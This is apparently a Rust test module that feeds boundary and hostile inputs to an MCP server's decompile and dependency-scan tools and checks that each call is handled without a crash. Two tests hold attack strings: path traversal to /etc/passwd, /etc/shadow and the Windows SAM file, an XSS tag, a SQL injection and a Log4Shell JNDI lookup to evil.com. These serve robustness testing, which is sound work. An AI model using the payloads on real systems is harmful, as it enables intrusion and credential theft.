//! Edge Cases
//!
//! Boundary conditions and hostile inputs. Every call must come back as a
//! response, result or error; a crash, hang or garbage line fails the test.

use super::call_handled;
use crate::harness::{Fixtures, TestCase};
use crate::mcp::{McpClient, Transport};
use crate::test_case;
use anyhow::{Context, Result};
use serde_json::json;

pub fn tests<T: Transport>() -> Vec<TestCase<T>> {
    vec![
        test_case!(empty_class_name),
        test_case!(special_characters_in_class_name),
        test_case!(very_long_class_name),
        test_case!(null_project_path),
        test_case!(unicode_in_paths),
        test_case!(missing_required_params),
        test_case!(extra_parameters),
        test_case!(invalid_json_types),
        test_case!(non_existent_jar_reference),
        test_case!(path_traversal_attempts),
    ]
}

async fn empty_class_name<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(client, "decompile_class", json!({"className": "", "projectPath": "/tmp"})).await?;
    Ok(())
}

async fn special_characters_in_class_name<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    let names = [
        "../../etc/passwd",
        "<script>alert('xss')</script>",
        "../../../",
        "'; DROP TABLE users; --",
        "${jndi:ldap://evil.com/a}",
    ];
    for name in names {
        call_handled(client, "decompile_class", json!({"className": name, "projectPath": "/tmp"}))
            .await
            .with_context(|| format!("className {:?}", name))?;
    }
    Ok(())
}

async fn very_long_class_name<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    let name = format!("com.{}long.ClassName", "very.".repeat(100));
    call_handled(client, "decompile_class", json!({"className": name, "projectPath": "/tmp"})).await?;
    Ok(())
}

async fn null_project_path<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(client, "scan_dependencies", json!({"projectPath": ""})).await?;
    Ok(())
}

async fn unicode_in_paths<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(
        client,
        "decompile_class",
        json!({"className": "com.测试.Test", "projectPath": "/tmp/测试"}),
    )
    .await?;
    Ok(())
}

async fn missing_required_params<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(client, "decompile_class", json!({"projectPath": "/tmp"})).await?;
    Ok(())
}

async fn extra_parameters<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(
        client,
        "decompile_class",
        json!({
            "className": "com.test.Test",
            "projectPath": "/tmp",
            "unknownParam": "value",
            "anotherUnknown": 123
        }),
    )
    .await?;
    Ok(())
}

async fn invalid_json_types<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    call_handled(client, "decompile_class", json!({"className": 12345, "projectPath": "/tmp"})).await?;
    Ok(())
}

async fn non_existent_jar_reference<T: Transport>(client: &McpClient<T>, fixtures: &Fixtures) -> Result<()> {
    call_handled(
        client,
        "decompile_class",
        json!({"className": "com.nonexist.FakeClass", "projectPath": fixtures.project_path()}),
    )
    .await?;
    Ok(())
}

async fn path_traversal_attempts<T: Transport>(client: &McpClient<T>, _fixtures: &Fixtures) -> Result<()> {
    let paths = [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "/etc/shadow",
        "C:\\Windows\\System32\\config\\SAM",
    ];
    for path in paths {
        call_handled(client, "scan_dependencies", json!({"projectPath": path}))
            .await
            .with_context(|| format!("projectPath {:?}", path))?;
    }
    Ok(())
}
